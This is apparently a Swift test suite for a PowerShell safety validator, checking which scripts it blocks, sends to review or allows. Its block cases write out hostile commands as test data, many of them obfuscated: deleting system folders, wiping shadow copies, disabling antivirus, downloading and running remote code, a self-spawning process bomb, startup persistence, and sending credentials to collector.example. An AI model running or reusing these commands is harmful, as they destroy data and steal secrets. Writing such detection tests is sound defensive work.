import RemediatorCore
import Safety
import Testing

@Suite("PowerShell validator verdicts")
struct PowerShellVerdictTests {
    let validator = SafetyValidator()

    func verdict(_ script: String) -> SafetyReport {
        validator.validate(script, language: .powershell)
    }

    @Test("destructive scripts are blocked, however they are spelled", arguments: [
        ("Remove-Item -Path C:\\Windows\\System32 -Recurse -Force", "destroy.rm-system-path"),
        ("rm -r -fo $env:SystemRoot", "destroy.rm-system-path"),
        ("R`emove-It`em C:\\Windows -Recurse", "destroy.rm-system-path"),
        ("iex ('Remove-'+'Item C:\\Windows -Recurse')", "destroy.rm-system-path"),
        ("& ('{1}-{0}' -f 'Item','Remove') C:\\Windows -Recurse", "destroy.rm-system-path"),
        ("$c = -join ('metI-evomeR'[-1..-11]); & $c C:\\Windows -Recurse", "destroy.rm-system-path"),
        ("$x = [char[]](82,101,109,111,118,101,45,73,116,101,109) -join ''; & $x C:\\Windows -Recurse", "destroy.rm-system-path"),
        ("Format-Volume -DriveLetter D -Force", "destroy.format-disk"),
        ("vssadmin delete shadows /all /quiet", "destroy.shadow-copies"),
        ("Stop-Computer -Force", "availability.shutdown"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "security.antivirus-disabled"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", "remote.download-to-interpreter"),
        ("powershell -enc UgBlAHMAdABhAHIAdAAtAEMAbwBtAHAAdQB0AGUAcgA=", "availability.shutdown"),
        // Folding code, not just expressions.
        ("function d($s) { [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($s)) }\niex (d 'UgBlAHMAdABhAHIAdAAtAEMAbwBtAHAAdQB0AGUAcgA=')", "availability.shutdown"),
        ("function Rev([string]$s) { -join ([char[]]$s)[-1..-($s.Length)] }\n$c = Rev 'retupmoC-pots'\n& $c -Force", "availability.shutdown"),
        ("$codes = 83,116,111,112,45,67,111,109,112,117,116,101,114\n$c = -join ($codes | ForEach-Object { [char]$_ })\n& $c", "availability.shutdown"),
        ("foreach ($s in @('WinDefend', 'EventLog')) { Stop-Service -Name $s -Force }", "availability.critical-service"),
        ("$old = Get-ChildItem C:\\Windows\\System32\n$old | Remove-Item -Recurse -Force", "destroy.rm-system-path"),
        // The payload re-launches itself: each copy starts another.
        ("$p = 'while($true){Start-Process powershell -ArgumentList ''-EncodedCommand'',$env:B}'\n$env:B = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($p))\nStart-Process powershell -ArgumentList '-EncodedCommand', $env:B", "fork-bomb.self-spawn"),
        ("$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-WindowStyle Hidden -File C:\\ProgramData\\u.ps1'\n$t = New-ScheduledTaskTrigger -AtStartup\nRegister-ScheduledTask -TaskName u -Action $a -Trigger $t", "persistence.scheduled-task"),
        // Secret paths match whatever the case and separators.
        ("reg save HKLM\\SAM C:\\temp\\sam.hive", "exfil.credential-dump"),
        ("$c = Get-Content C:\\Users\\Admin\\.AWS\\Credentials -Raw\nInvoke-RestMethod -Uri https://collector.example/u -Method Post -Body $c", "exfil.credentials-sent"),
    ])
    func blocks(script: String, rule: String) {
        let report = verdict(script)
        #expect(report.verdict == .block, "\(script) → \(report)")
        #expect(report.findings.contains { $0.rule == rule }, "\(script) → \(report.findings.map(\.rule))")
    }

    @Test("what cannot be resolved, and ordinary changes, go to review", arguments: [
        ("iex $payload", "exec.dynamic-eval"),
        ("& $command -Force", "exec.dynamic-command"),
        ("Start-Process powershell -ArgumentList '-EncodedCommand', $encoded", "exec.encoded-payload"),
        ("Start-Process cmd -ArgumentList '/c', $line", "exec.dynamic-eval"),
        ("Restart-Service -Name W3SVC", "change.service"),
        ("Remove-Item -Path 'C:\\Windows\\Temp\\*' -Recurse -Force", "change.temporary-files"),
        ("$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-File D:\\Apps\\Shop\\cleanup.ps1'\n$t = New-ScheduledTaskTrigger -Daily -At '02:30'\nRegister-ScheduledTask -TaskName c -Action $a -Trigger $t", "change.scheduled-job"),
        ("schtasks /create /tn c /tr \"D:\\Tools\\cleanup.exe --days 7\" /sc daily", "change.scheduled-job"),
        ("Set-Content -Path \"C:\\Program Files\\MyApp\\app.config\" -Value '<x/>'", "change.system-configuration"),
        ("\"{", "parse.error"),
    ])
    func reviews(script: String, rule: String) {
        let report = verdict(script)
        #expect(report.verdict == .review, "\(script) → \(report)")
        #expect(report.findings.contains { $0.rule == rule }, "\(script) → \(report.findings.map(\.rule))")
    }

    @Test("read-only commands, scoped clean-ups and mere mentions are allowed", arguments: [
        "Get-Service W3SVC | Select-Object Status",
        "Get-ChildItem C:\\Windows\\System32 | Measure-Object",
        "Remove-Item -Path 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\*.log' -Force",
        "$cache = 'C:\\ProgramData\\MyApp\\cache'\n$items = Get-ChildItem -LiteralPath $cache\n$items | Remove-Item -Recurse -Force",
        "Get-ChildItem D:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-14) } | Remove-Item",
        "Write-Output 'never run Remove-Item C:\\Windows -Recurse'",
        "# Stop-Computer -Force\nGet-Date",
        "netsh advfirewall show allprofiles state",
        "vssadmin list shadows",
        "sc.exe query W3SVC",
        "Test-NetConnection -ComputerName 127.0.0.1 -Port 443",
    ])
    func allows(script: String) {
        let report = verdict(script)
        #expect(report.verdict == .allow, "\(script) → \(report.findings)")
    }

    @Test("findings point at the line and column of the command")
    func positions() throws {
        let report = verdict("Get-Date\n  Stop-Computer -Force\n")
        let finding = try #require(report.findings.first)
        #expect(finding.line == 2)
        #expect(finding.column == 3)
        #expect(finding.snippet == "Stop-Computer -Force")
    }
}
